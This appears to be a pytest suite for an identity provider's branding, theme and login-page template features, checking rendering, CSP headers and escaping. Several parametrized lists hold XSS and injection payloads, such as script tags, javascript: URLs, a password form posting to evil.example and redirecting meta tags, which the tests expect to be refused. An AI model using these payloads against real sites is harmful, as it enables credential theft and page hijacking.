"""Branding, themes and page templates: kept as official tools send them, and worn by the next page."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from idp.signin.factors import service as factors
from tests.security.rows import row
from tests.tenant.appearance.looks import PAGE, THEME
from tests.world.factors import demand
from tests.world.management import Api
from tests.world.templates import BARE, Template
from tests.world.world import World


@pytest.fixture
def template() -> Template:
    return BARE


@pytest.fixture
def environment() -> dict[str, str]:
    return {"IDP_RATE_LIMITS": "off"}


@pytest.fixture
def api(world: World) -> Api:
    return world.caller()


def shown(world: World) -> tuple[str, str]:
    """The first page of a sign-in, and its policy."""
    browser = world.browser()
    world.client().begin(browser)
    assert browser.status == 200
    return browser.shown.html, browser.response.headers["Content-Security-Policy"]


def changed(**parts: dict[str, Any]) -> dict[str, Any]:
    theme = copy.deepcopy(THEME)
    for part, members in parts.items():
        theme[part].update(members)
    return theme


def sheet(world: World, html: str) -> str:
    path = html.partition('<link rel="stylesheet" href="/u/look/')[2].partition('"')[0]
    answer = world.browser().request("GET", f"/u/look/{path}")
    assert answer.status_code == 200
    assert answer.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    return answer.get_data(as_text=True)


def test_branding_merges_and_null_removes(api: Api) -> None:
    assert api.get("/branding").json == {}
    sent = {
        "colors": {"primary": "#123456"},
        "logo_url": "https://a.example/l.png",
        "font": {"url": "https://f.example/f.woff"},
    }
    assert api.patch("/branding", sent).json == sent
    gradient = {"type": "linear-gradient", "start": "#ffffff", "end": "#000000", "angle_deg": 35}
    answer = api.patch("/branding", {"colors": {"page_background": gradient}, "font": None}).json
    assert answer == {
        "colors": {"primary": "#123456", "page_background": gradient},
        "logo_url": "https://a.example/l.png",
    }
    answer = api.patch("/branding", {"colors": {"page_background": "#abcdef"}, "logo_url": None}).json
    assert answer == api.get("/branding").json == {"colors": {"primary": "#123456", "page_background": "#abcdef"}}


@pytest.mark.parametrize(
    "body",
    [
        {"colors": {"primary": "red;}body{display:none"}},
        {"colors": {"page_background": "url(https://evil.example/)"}},
        {"colors": {"page_background": {"type": "linear-gradient", "start": "#fff", "end": "x"}}},
        {"logo_url": "javascript:alert(1)"},
        {"favicon_url": "data:text/html,x"},
        {"font": {"url": 'https://a.example/\\");}*{}'}},
        {"fonts": {}},
    ],
)
def test_hostile_branding_is_refused(api: Api, body: dict[str, Any]) -> None:
    answer = api.patch("/branding", body)
    assert (answer.status_code, answer.json["errorCode"]) == (400, "invalid_body")
    assert api.get("/branding").json == {}


def test_a_background_and_a_font_are_worn(api: Api, world: World) -> None:
    gradient = {"type": "linear-gradient", "start": "#102030", "end": "#a0b0c0", "angle_deg": 35}
    api.patch("/branding", {"colors": {"page_background": gradient}, "font": {"url": "https://f.example/f.woff2"}})
    html, policy = shown(world)
    css = sheet(world, html)
    assert "linear-gradient(35deg,#102030,#a0b0c0)" in css
    assert 'src:url("https://f.example/f.woff2")' in css
    assert "font-src 'self' https://f.example" in policy


def test_a_theme_is_kept_whole_and_there_is_one(api: Api) -> None:
    assert api.get("/branding/themes/default").json["errorCode"] == "theme_not_found"
    made = api.post("/branding/themes", THEME)
    assert made.status_code == 200
    assert made.json == {**THEME, "themeId": made.json["themeId"]}
    assert api.post("/branding/themes", THEME).status_code == 409
    path = f"/branding/themes/{made.json['themeId']}"
    assert api.get(path).json == api.get("/branding/themes/default").json == made.json
    without = {name: part for name, part in THEME.items() if name not in {"identifiers", "displayName"}}
    answer = api.patch(path, {**without, "widget": {**THEME["widget"], "logo_position": "none"}}).json
    assert answer["widget"]["logo_position"] == "none"
    assert (answer["displayName"], answer["identifiers"]) == ("Acme", THEME["identifiers"])
    assert api.delete(path).status_code == 204
    assert {api.get(path).status_code, api.delete(path).status_code, api.patch(path, THEME).status_code} == {404}


def test_a_theme_is_worn_and_taken_off(api: Api, world: World) -> None:
    made = api.post("/branding/themes", THEME).json
    html, policy = shown(world)
    css = sheet(world, html)
    assert "--accent:#635dff" in css
    assert ".button{font-size:1rem;font-weight:650" in css
    assert "border-radius:999px" in css
    assert 'url("https://pictures.example/ground.jpg")' in css
    assert 'src="https://pictures.example/logo.png"' in html
    assert "img-src 'self' data: https://pictures.example;" in policy
    assert "font-src 'self' https://fonts.example" in policy
    assert "unsafe" not in policy
    api.delete(f"/branding/themes/{made['themeId']}")
    html, policy = shown(world)
    assert "/u/look/" not in html
    assert "pictures.example" not in html + policy


def test_an_older_sheet_is_answered_briefly(api: Api, world: World) -> None:
    browser = world.browser()
    assert browser.request("GET", "/u/look/0123456789abcdef.css").status_code == 404
    api.post("/branding/themes", THEME)
    answer = browser.request("GET", "/u/look/0123456789abcdef.css")
    assert (answer.status_code, answer.headers["Cache-Control"]) == (200, "public, max-age=60")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@row("T2")
@pytest.mark.parametrize(
    "parts",
    [
        {"colors": {"primary_button": "#fff}body{display:none"}},
        {"colors": {"widget_background": "rgb(0,0,0)"}},
        {"colors": {"captcha_widget_theme": "pink"}},
        {"borders": {"buttons_style": "pill;}"}},
        {"borders": {"widget_corner_radius": 51}},
        {"borders": {"button_border_radius": 0}},
        {"fonts": {"reference_text_size": 100}},
        {"fonts": {"font_url": "ftp://a.example/f"}},
        {"page_background": {"background_image_url": "javascript:alert(1)"}},
        {"widget": {"logo_url": "//evil.example/l.png"}},
        {"widget": {"logo_height": 1e9}},
        {"widget": {"more": 1}},
    ],
)
def test_hostile_themes_are_refused(api: Api, parts: dict[str, dict[str, Any]]) -> None:
    answer = api.post("/branding/themes", changed(**parts))
    assert (answer.status_code, answer.json["errorCode"]) == (400, "invalid_body")
    assert api.get("/branding/themes/default").status_code == 404


@row("T2")
def test_an_address_cannot_end_its_place_in_the_sheet(api: Api, world: World) -> None:
    odd = "https://a.example/x(y);z"
    answer = api.post("/branding/themes", changed(page_background={"background_image_url": odd}))
    assert answer.status_code == 200
    css = sheet(world, shown(world)[0])
    assert 'url("https://a.example/x%28y%29%3Bz")' in css.replace(";z", "%3Bz")
    assert "x(y)" not in css


def test_a_page_template_surrounds_the_forms(api: Api, world: World) -> None:
    path = "/branding/templates/universal-login"
    assert api.get(path).json["errorCode"] == "inexistent_templates_universal_login"
    assert api.put(path, {"template": PAGE}).status_code == 201
    assert api.get(path).json == {"body": PAGE}
    api.patch("/branding", {"logo_url": "https://a.example/l.png"})
    html, policy = shown(world)
    assert '<body class="acme">' in html
    assert '<html lang="en">' in html
    assert html.count("<main") == html.count("<head>") == html.count("</html>") == 1
    assert "On the way to The web app" in html
    assert "> login" in html
    nonce = policy.partition("'nonce-")[2].partition("'")[0]
    assert f'<style nonce="{nonce}">body {{ background' in html
    assert "https://art.example" in policy
    assert api.delete(path).status_code == 204
    assert "acme" not in shown(world)[0]
    assert api.delete(path).status_code == 204


def test_people_sign_in_inside_a_page_template(api: Api, world: World) -> None:
    api.put("/branding/templates/universal-login", {"template": PAGE})
    jane, app, browser = world.user(), world.client(), world.browser()
    attempt = app.begin(browser)
    browser.submit(username=jane.email, password="wrong")
    assert 'class="acme"' in browser.shown.html
    browser.submit(username=jane.email, password=jane.password)
    assert attempt.redeem(browser.answer).status_code == 200


def test_what_a_client_is_called_is_escaped_in_the_template(api: Api, world: World) -> None:
    api.put("/branding/templates/universal-login", {"template": PAGE})
    browser = world.browser()
    world.client(name="<script>alert(1)</script>").begin(browser)
    assert "<script>alert" not in browser.shown.html
    assert "On the way to &lt;script&gt;" in browser.shown.html


def test_names_cannot_move_the_form(api: Api, world: World) -> None:
    """Nor can a template that leaves its place out today."""
    moving = page().replace("<body>", '<body><p title="{{ application.name }}">x</p>')
    leaving = page().replace("{%- auth0:widget -%}", "{% if locale == 'xx' %}{%- auth0:widget -%}{% endif %}")
    for source, name in ((moving, "gatehouse-own-widget"), (leaving, "Shop")):
        assert api.put("/branding/templates/universal-login", {"template": source}).status_code == 201
        browser = world.browser()
        world.client(name=name).begin(browser)
        assert '<p title="' not in browser.shown.html
        assert browser.shown.html.count('id="login-submit"') == 1


def test_blocks_may_stand_in_values(api: Api, world: World) -> None:
    source = page(body="<p class=\"{% if locale == 'en' %}own{% endif %}\">{{ locale | append: ', ok' }}</p>")
    assert api.put("/branding/templates/universal-login", {"template": source}).status_code == 201
    assert '<p class="own">en, ok</p>' in shown(world)[0]


def page(head: str = "", body: str = "") -> str:
    return f"<html><head>{{%- auth0:head -%}}{head}</head><body>{{%- auth0:widget -%}}{body}</body></html>"


HOSTILE = [
    "<html><body>no tags</body></html>",
    page() + page(),
    "<html><head>{%- auth0:head -%}</head><body><style>{%- auth0:widget -%}</style></body></html>",
    "<html><head>{%- auth0:widget -%}</head><body>{%- auth0:head -%}</body></html>",
    '<html><head>{%- auth0:head -%}</head><body><p title="{%- auth0:widget -%}"></p></body></html>',
    "<html><head>{%- auth0:head -%}</head><body><!-- {%- auth0:widget -%} --></body></html>",
    page("<script>alert(1)</script>"),
    page(body="<ScRiPt src=https://evil.example/x.js></sCrIpT>"),
    page(body='<img src="https://a.example/" onerror="alert(1)">'),
    page(body="<svg><script>alert(1)</script></svg>"),
    page(body="<svg onload=alert(1)>"),
    page(body='<iframe src="https://evil.example/"></iframe>'),
    page(body='<form action="https://evil.example/"><input name="password"></form>'),
    page(body='<button form="x">Continue</button>'),
    page(body='<a href="javascript:alert(1)">x</a>'),
    page(body='<a href=" java&#115;cript:alert(1)">x</a>'),
    page(body='<img src="data:text/html,<script>">'),
    page('<base href="https://evil.example/">'),
    page('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    page('<meta name="referrer" content="unsafe-url">'),
    page('<link rel="stylesheet" href="https://evil.example/x.css">'),
    page('<link rel="prefetch" href="https://evil.example/">'),
    page('<style>@import "https://evil.example/x.css";</style>'),
    page("<style>a{background:url(javascript:alert(1))}</style>"),
    page("<style>a{background:u\\72l(x)}</style>"),
    page(body='<div style="position:fixed">x</div>'),
    page(body="<{% if true %}scr{% endif %}ipt>"),
    page(body='<img {{ "onerror" }}="x" src="/x">'),
    page(body="<!--><script>alert(1)</script>-->"),
    page(body="{% raw %}<script>{% endraw %}"),
    page(body="{% capture x %}<script>{% endcapture %}"),
    page(body="{% include 'secrets' %}"),
    page(body="{{ x | safe }}"),
    page(body="{{ "),
    page(body="<template><script></script></template>"),
    page(body="<?php echo 1 ?>"),
    page(body="<object data=x></object>"),
    page(body="<math><mtext></mtext></math>"),
    page(body="x" * 100_001),
    page(body="<img src='https://evil.example/?"),
    '<html><head>{%- auth0:head -%}</head><body><a href="https://evil.example/{%- auth0:widget -%}',
    page(body="<!-- to the end"),
    page(body='{{ "<form action=https://evil.example/>" }}'),
    page(body="{% assign a = '<b' %}{{ a }}"),
    page(body="<a href='{{ \"x' onclick='y\" }}'>x</a>"),
    page(body="<img src='https://evil.example/?{% if locale == 'xx' %}'>{% endif %}"),
    page(head="<title>{% if locale == 'xx' %}</title>{% endif %}"),
]


@row("T3")
@pytest.mark.parametrize("source", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_page_templates_are_refused(api: Api, source: str) -> None:
    answer = api.put("/branding/templates/universal-login", {"template": source})
    assert (answer.status_code, answer.json["errorCode"]) == (400, "invalid_body"), answer.json
    assert api.get("/branding/templates/universal-login").status_code == 404


def test_a_template_may_come_as_it_is(api: Api, world: World) -> None:
    path = "/branding/templates/universal-login"
    for sent in ({"data": PAGE, "content_type": "text/html"}, {"json": PAGE}):
        assert api("PUT", path, **sent).status_code == 201
        assert api.get(path).json == {"body": PAGE}
        api.delete(path)


@row("T3")
def test_a_template_that_runs_on_gives_the_plain_page(api: Api, world: World) -> None:
    heavy = page(body="{% for a in (1..9000) %}{% for b in (1..9000) %}x{% endfor %}{% endfor %}")
    assert api.put("/branding/templates/universal-login", {"template": heavy}).status_code == 201
    assert 'id="login-submit"' in shown(world)[0]


@pytest.mark.parametrize(
    ("masking", "formatting", "number"),
    [
        ("mask_digits", "international", "•••• 4567"),
        ("show_all", "international", "+49 171 1234567"),
        ("show_all", "regional", "0171 1234567"),
        ("hide_country_code", "international", "0171 1234567"),
    ],
)
def test_numbers_are_shown_as_the_theme_has_them(world: World, masking: str, formatting: str, number: str) -> None:
    person = world.user("jane@example.com")
    demand(world, "sms")
    with world.writing() as work:
        factors.add(work, person.user_id, [factors.New(type="phone", phone_number="+491711234567")])
    display = {"masking": masking, "formatting": formatting}
    identifiers = {"login_display": "unified", "otp_autocomplete": True, "phone_display": display}
    made = world.caller().post("/branding/themes", {**THEME, "identifiers": identifiers})
    assert made.status_code == 200, made.text
    browser = world.browser()
    world.client().begin(browser)
    browser.submit(username=person.email, password=person.password)
    assert browser.path == "/u/mfa-sms/mfa-sms-challenge"
    assert number in browser.shown.text


@pytest.mark.parametrize("look", ["auto", "dark"])
def test_widgets_of_captcha_providers_have_the_themes_colours(world: World, look: str) -> None:
    api = world.caller()
    api.post("/branding/themes", {**THEME, "colors": {**THEME["colors"], "captcha_widget_theme": look}})
    provider = {"active_provider_id": "hcaptcha", "hcaptcha": {"site_key": "key", "secret": "secret"}}
    assert api.patch("/attack-protection/captcha", provider).status_code == 200
    api.patch("/attack-protection/bot-detection", {"challenge_password_policy": "always"})
    browser = world.browser()
    world.client().begin(browser)
    assert ('data-theme="dark"' in browser.shown.html) is (look == "dark")
